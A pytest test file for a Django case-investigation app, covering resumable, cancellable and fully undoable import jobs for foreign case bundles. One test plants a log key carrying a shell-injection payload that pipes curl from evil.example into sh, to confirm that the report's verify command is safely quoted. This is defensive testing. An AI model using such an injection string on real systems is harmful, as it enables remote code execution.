"""The import of a case as a job: by steps, taken up where another worker was killed, and wholly undone where it does not finish."""

import html
import shlex
from collections.abc import Callable
from contextlib import suppress
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from pytest_django.asserts import assertContains, assertNotContains

from accounts.models import User
from core.errors import Refused
from investigations.attachments import services as attachments
from investigations.attachments.files import build_path as build_attachment_path
from investigations.audit import record_in_case
from investigations.case_import import contents, services, undo
from investigations.case_import import jobs as case_imports
from investigations.case_import.undo import undo_import
from investigations.case_tasks import services as case_tasks
from investigations.case_verification import services as verification
from investigations.models import AcceptedKey, Case, CaseImport, CaseUpload, CaseVerification, Evidence, ForeignCase
from investigations.runs import jobs
from tests.investigations.case_import.test_case_import import (
    accept,
    bring_in,
    carry_in,
    nothing_is_written,
    upload,
    work_on,
)
from tests.investigations.exports.test_case_bundle import export_case_bundle, fill
from tests.support.counts_anew import assert_counted_anew
from tests.support.factories.cases import open_case, run
from tests.support.pages import audit_log
from trail.connection import Trail

Seal = Callable[[], object]


@pytest.fixture
def made(case: Case, alice: User, lea: User, trail: Trail, seal: Seal, monkeypatch: pytest.MonkeyPatch) -> CaseUpload:
    """A bundle that is verified, of several steps of either kind, by an accepted key."""
    monkeypatch.setattr(contents, "STEP", 2)
    monkeypatch.setattr(case_imports, "PIECES", 2)
    fill(case, alice, trail, seal)
    case_tasks.add_task(case=case, title="Call them", by=alice, assignee="alice")
    run(alice, text="token.id:t", case=case, title="Uses of t")
    made = upload(export_case_bundle(case, alice), lea)
    accept(made, lea)
    return made


def die_at(number: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """As a worker that is killed in the middle of this step, of lines or of custody or at the end: its transaction is undone."""
    calls = [0]

    def wrap(module: Any, name: str) -> None:
        work = getattr(module, name)

        def work_or_die(*args: Any) -> None:
            work(*args)
            calls[0] += 1
            if calls[0] == number:
                raise KeyboardInterrupt

        monkeypatch.setattr(module, name, work_or_die)

    wrap(contents, "write_words")
    wrap(contents, "write_step")
    wrap(contents, "write_attachments")


def lose_lease(made: CaseUpload) -> None:
    CaseImport.objects.filter(upload=made).update(lease_until=timezone.now() - timedelta(minutes=1))


def start_and_die(made: CaseUpload, by: User, number: int, monkeypatch: pytest.MonkeyPatch) -> CaseImport:
    services.start_import(upload=made, by=by)
    with monkeypatch.context() as patch, suppress(KeyboardInterrupt):
        die_at(number, patch)
        work_on(made)
    lose_lease(made)
    return made.imports.order_by("-pk")[0]


def describe(case: Case) -> dict[str, Any]:
    return {
        "evidence": list(case.evidence.order_by("number").values_list("number", "digest", "reason")),
        "custody": list(
            case.custody.exclude(action="import")
            .order_by("pk")
            .values_list("evidence__number", "action", "by_name", "at")
        ),
        "notes": list(case.notes.order_by("pk").values_list("text", flat=True)),
        "tasks": list(case.tasks.values_list("title", "foreign_assignee")),
        "links": list(case.hypotheses.values_list("number", "evidence_links__evidence__number")),
        "entities": list(case.entities.order_by("field", "value").values_list("field", "value", "events")),
        "files": list(case.attachments.values_list("number", "sha256")),
    }


@pytest.mark.parametrize("number", [1, 2, 3, 4, 5, 6])
def test_one_that_a_killed_worker_left_is_taken_up_and_is_the_same_case(
    number: int, made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    job = start_and_die(made, lea, number, monkeypatch)
    assert job.state == "running"
    assert not Case.objects.visible_to(lea).filter(foreign__upload=made).exists()
    assert work_on(made).state == "finished"
    here = Case.objects.visible_to(lea).get(foreign__upload=made)
    resumed = describe(here)
    assert len(resumed["evidence"]) == 3
    assert ("Call them", f"Alice ({here.foreign.origin})") in resumed["tasks"]
    assert here.custody.filter(action="import").count() == 3
    assert {entry["event_id"] for entry in here.custody.filter(action="import").values("event_id")} != {""}
    assert all(build_attachment_path(each.public_id).exists() for each in here.attachments.all())
    assert not here.foreign.is_arriving
    assert_counted_anew()
    ForeignCase.objects.filter(case=here).update(is_arriving=True)
    undo_import(here)  # as if it had never come: by one worker it is the same
    assert describe(carry_in(made, lea)) == resumed


@pytest.mark.parametrize("number", [1, 2, 4])
def test_while_it_arrives_nobody_sees_counts_or_verifies_it(
    number: int, made: CaseUpload, lea: User, ada: User, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    job = start_and_die(made, lea, number, monkeypatch)
    for person in (lea, ada):
        client.force_login(person)
        assertNotContains(client.get("/cases/"), "in-")
        if job.case is not None:
            assert client.get(f"/cases/{job.case.public_id}/").status_code == 404
    CaseVerification.objects.update(created_at=timezone.now() - timedelta(days=2))
    assert verification.start_due() == 1  # the case that it was exported of
    with pytest.raises(Refused, match="worked on already"):
        services.start_import(upload=made, by=lea)
    with pytest.raises(Refused, match=r"stop that first|stays with the case"):
        services.drop_upload(upload=made, by=lea)


@pytest.mark.parametrize("number", [2, 3, 5])
def test_one_that_is_given_up_is_wholly_undone_on_record(
    number: int, made: CaseUpload, lea: User, trail: Trail, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    open_case(alice)
    with nothing_is_written():
        start_and_die(made, lea, number, monkeypatch)
        CaseImport.objects.filter(upload=made, step="import").update(attempts=jobs.MAX_ATTEMPTS)
        job = work_on(made)
        assert (job.state, job.problem, job.case) == ("failed", jobs.DIED, None)
    (event,) = audit_log(trail, "case.import.fail")
    assert event["labels"]["failed"] == jobs.DIED
    assert_counted_anew()
    assert carry_in(made, lea).evidence.count() == 3


@pytest.mark.parametrize("is_worked_on", [True, False])
def test_one_that_is_stopped_is_wholly_undone(
    is_worked_on: bool, made: CaseUpload, lea: User, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    client.force_login(lea)
    with nothing_is_written():
        job = start_and_die(made, lea, 3, monkeypatch)
        if is_worked_on:
            CaseImport.objects.filter(pk=job.pk).update(lease_until=timezone.now() + timedelta(minutes=1))
        client.post(f"/case-imports/{made.public_id}/cancel/")
        lose_lease(made)
        work_on(made)
        job.refresh_from_db()
        assert job.state == "cancelled"
    assertContains(client.get(f"/case-imports/{made.public_id}/"), "nothing of it stays")


def test_who_may_not_import_any_more_imports_nothing(made: CaseUpload, lea: User) -> None:
    services.start_import(upload=made, by=lea)
    User.objects.filter(pk=lea.pk).update(role="analyst")
    with nothing_is_written():
        assert work_on(made).problem == "Lea may not import cases any more."


def test_a_file_that_changed_since_it_was_verified_is_not_imported(made: CaseUpload, lea: User) -> None:
    path = services.build_path(made.public_id)
    content = path.read_bytes()
    path.write_bytes(content.replace(b"It matters", b"It mutters", 1))
    with nothing_is_written(), pytest.raises(Refused, match="not the one that was verified"):
        carry_in(made, lea)


def test_an_import_that_fails_at_its_end_leaves_no_file_of_an_attachment(
    made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = set(build_attachment_path("x").parent.iterdir())
    start_and_die(made, lea, 1 + 100, monkeypatch)  # it finishes
    here = Case.objects.get(foreign__upload=made)
    assert len(set(build_attachment_path("x").parent.iterdir()) - files) == here.attachments.count() == 1


def test_what_was_asked_there_is_shown_here(made: CaseUpload, lea: User, client: Client) -> None:
    here = carry_in(made, lea)
    client.force_login(lea)
    page = client.get(f"/cases/{here.public_id}/")
    assertContains(page, "Asked there")
    assertContains(page, "Uses of t")
    tasks = client.get(f"/cases/{here.public_id}/tasks/")
    assertContains(tasks, f"Alice ({here.foreign.origin})")


def test_more_pieces_than_the_setting_allows_are_refused(
    case: Case, alice: User, lea: User, trail: Trail, seal: Seal, settings: Any
) -> None:
    fill(case, alice, trail, seal)
    file = export_case_bundle(case, alice)
    settings.CASE_BUNDLE_PIECES = 3
    with nothing_is_written(), pytest.raises(Refused, match="at most 3"):
        bring_in(file, lea)


def test_a_foreign_case_is_marked_wherever_cases_are_named(
    made: CaseUpload, lea: User, client: Client, case: Case
) -> None:
    here = carry_in(made, lea)
    client.force_login(lea)
    pill = '<span class="pill pill--foreign">foreign</span>'
    for address in ("/cases/", "/cases/?view=board", "/cases/?q=Stolen", f"/cases/?q={here.number}", "/home/"):
        page = client.get(address)
        if here.title in page.content.decode():
            assertContains(page, pill, count=1, msg_prefix=address)
    assertContains(client.get("/cases/"), pill, count=1)
    assertContains(client.get("/cases/?view=board"), pill, count=1)
    assertContains(client.get(f"/cases/timelines/?case={case.number}&case={here.number}"), pill, count=1)
    assertContains(client.get(f"/cases/{case.public_id}/entities/"), pill, count=1)
    assertContains(client.get("/jump/options/", {"q": here.number}), f"{here.number}, foreign")


def test_its_report_says_how_their_log_is_checked_and_not_ours(made: CaseUpload, lea: User, client: Client) -> None:
    here = carry_in(made, lea)
    client.force_login(lea)
    page = html.unescape(client.get(f"/cases/{here.public_id}/report/").content.decode())
    foreign = ForeignCase.objects.get()
    for text in (foreign.origin, foreign.fingerprint, foreign.manifest, "--console-key", "By telephone"):
        assert text in page, text
    assert all(f"--key {key} " in page for key in foreign.log_keys)
    assert "not sealed yet" not in page
    assert f"case-{here.public_id}-timeline.bundle.jsonl" not in page


def test_the_command_that_its_report_says_takes_no_orders_from_the_other_console(
    made: CaseUpload, lea: User, client: Client
) -> None:
    here = carry_in(made, lea)
    key = "a';curl${IFS}evil.example|sh;'+0123abcd+AAAA"
    ForeignCase.objects.filter(case=here).update(log_keys=[key])
    client.force_login(lea)
    page = html.unescape(client.get(f"/cases/{here.public_id}/report/").content.decode())
    command = page[page.index("python verify_bundle.py") : page.index("THE-BUNDLE.case.zip")]
    assert shlex.split(command.replace("\\\n", " "))[2:4] == ["--key", key]


@pytest.mark.parametrize("changes", [{}, {"name": "Lea B.", "role": "admin"}], ids=["the same person", "another role"])
def test_one_that_ended_between_its_record_and_the_commit_is_finished_and_once_on_record(
    changes: dict[str, str], made: CaseUpload, lea: User, trail: Trail, monkeypatch: pytest.MonkeyPatch
) -> None:
    services.start_import(upload=made, by=lea)

    def record_and_die(*args: Any, **words: Any) -> None:
        record_in_case(*args, **words)
        raise KeyboardInterrupt

    with monkeypatch.context() as patch, suppress(KeyboardInterrupt):
        patch.setattr(case_imports, "record_in_case", record_and_die)
        work_on(made)
    lose_lease(made)
    if changes:
        User.objects.filter(pk=lea.pk).update(**changes)
    job = work_on(made)
    assert (job.state, job.problem) == ("finished", "")
    (event,) = audit_log(trail, "case.import")
    assert event["event"]["id"] == job.event_id
    assert ForeignCase.objects.get(upload=made).case.custody.filter(action="import", event_id=job.event_id).count() == 3


def test_each_attachment_of_one_content_has_a_file_for_its_owner_alone(
    case: Case, alice: User, lea: User, trail: Trail, seal: Seal
) -> None:
    fill(case, alice, trail, seal)
    attachments.attach_file(case=case, name="copy.pdf", chunks=[b"%PDF-1.7"], by=alice)
    here = bring_in(export_case_bundle(case, alice), lea)
    files = [build_attachment_path(each.public_id) for each in here.attachments.all()]
    assert [(path.read_bytes(), path.stat().st_mode & 0o777) for path in files] == [(b"%PDF-1.7", 0o600)] * 2


def test_an_attachment_that_is_not_of_its_digest_ends_the_import(
    made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = case_imports.copy_attachments
    monkeypatch.setattr(
        case_imports,
        "copy_attachments",
        lambda path, take: copy(path, lambda digest, parts: take(digest, iter([b"x", *parts]))),
    )
    with nothing_is_written(), pytest.raises(Refused, match="attachment A1 is not of the digest"):
        carry_in(made, lea)


def test_a_key_that_is_revoked_meanwhile_ends_the_import(
    made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    with nothing_is_written():
        start_and_die(made, lea, 3, monkeypatch)
        services.revoke_key(key=AcceptedKey.objects.get(), by=lea)
        job = work_on(made)
        assert (job.state, "it was revoked" in job.problem) == ("failed", True)
    assert not ForeignCase.objects.exists()


def test_a_person_who_may_not_go_on_meanwhile_ends_the_import(
    made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    write = contents.write_step

    def write_and_leave(*args: Any) -> None:
        write(*args)
        User.objects.filter(pk=lea.pk).update(is_active=False)

    monkeypatch.setattr(contents, "write_step", write_and_leave)
    services.start_import(upload=made, by=lea)
    with nothing_is_written():
        assert work_on(made).problem == "Lea may not import cases any more."


@pytest.mark.parametrize("name", ["read_verified", "read_content", "copy_attachments", "undo_import"])
def test_no_other_worker_takes_up_one_that_reads_or_undoes_for_long(
    name: str, made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    due = list[list[int]]()

    def take_long(*args: Any) -> Any:
        answer = work(*args)
        lose_lease(made)
        return answer

    def look(*args: Any) -> Any:
        due.append(jobs.list_due(CaseImport))
        return inner(*args)

    def refuse(job: CaseImport) -> None:
        if job.case is not None:
            lose_lease(made)
            raise Refused("No further.")

    work, inner = getattr(case_imports, name), None
    if name == "undo_import":
        inner = case_imports.undo_import
        monkeypatch.setattr(case_imports, "_keep_on", refuse)
        monkeypatch.setattr(case_imports, "undo_import", look)
    else:
        module, at = (contents, "mark_entities") if name == "copy_attachments" else (contents, "write_words")
        inner = getattr(module, at)
        monkeypatch.setattr(case_imports, name, take_long)
        monkeypatch.setattr(module, at, look)
    services.start_import(upload=made, by=lea)
    work_on(made)
    assert due == [[]]


def test_one_that_is_stopped_under_a_worker_whose_lease_is_over_is_undone_by_the_worker(
    made: CaseUpload, lea: User, trail: Trail, monkeypatch: pytest.MonkeyPatch
) -> None:
    read = contents.read_steps

    def read_and_stop(*args: Any) -> Any:
        for number, step in enumerate(read(*args)):
            if number == 1:
                lose_lease(made)
                services.cancel(job=made.imports.order_by("-pk")[0], by=lea)
            yield step

    monkeypatch.setattr(contents, "read_steps", read_and_stop)
    services.start_import(upload=made, by=lea)
    with nothing_is_written():
        job = work_on(made)
        assert (job.state, job.case) == ("cancelled", None)
    assert len(audit_log(trail, "case.import.cancel")) == 1


def test_one_that_is_stopped_before_it_began_ends_at_once(made: CaseUpload, lea: User) -> None:
    services.start_import(upload=made, by=lea)
    services.cancel(job=made.imports.order_by("-pk")[0], by=lea)
    assert made.imports.order_by("-pk")[0].state == "cancelled"
    assert carry_in(made, lea).evidence.count() == 3


def count_steps(monkeypatch: pytest.MonkeyPatch, *, die_at: int = 0) -> list[int]:
    """How many pieces of evidence there are at each step of an undo, in steps of one; at this step its worker is killed."""
    left, hold = list[int](), undo.hold_marks

    def hold_and_count() -> None:
        hold()
        left.append(Evidence.objects.filter(case__foreign__is_arriving=True).count())
        if len(left) == die_at:
            raise KeyboardInterrupt

    monkeypatch.setattr(undo, "STEP", 1)
    monkeypatch.setattr(undo, "hold_marks", hold_and_count)
    return left


def test_an_undo_goes_in_steps_so_that_others_write_meanwhile(
    made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    with nothing_is_written():
        job = start_and_die(made, lea, 6, monkeypatch)
        services.cancel(job=job, by=lea)
        left = count_steps(monkeypatch)
        assert work_on(made).state == "cancelled"
    assert left[:4] == [3, 2, 1, 0]
    assert_counted_anew()


@pytest.mark.parametrize("is_cancelled", [True, False])
def test_an_undo_that_a_killed_worker_left_is_gone_on_with(
    is_cancelled: bool, made: CaseUpload, lea: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    with nothing_is_written():
        job = start_and_die(made, lea, 6, monkeypatch)
        if is_cancelled:
            services.cancel(job=job, by=lea)
        else:
            services.revoke_key(key=AcceptedKey.objects.get(), by=lea)
        with monkeypatch.context() as patch, suppress(KeyboardInterrupt):
            count_steps(patch, die_at=2)
            work_on(made)
        assert Evidence.objects.filter(case__foreign__upload=made).count() == 2
        lose_lease(made)
        job = work_on(made)
        assert (job.state, "it was revoked" in job.problem) == (
            ("cancelled", False) if is_cancelled else ("failed", True)
        )
    assert_counted_anew()
    assert not ForeignCase.objects.exists()
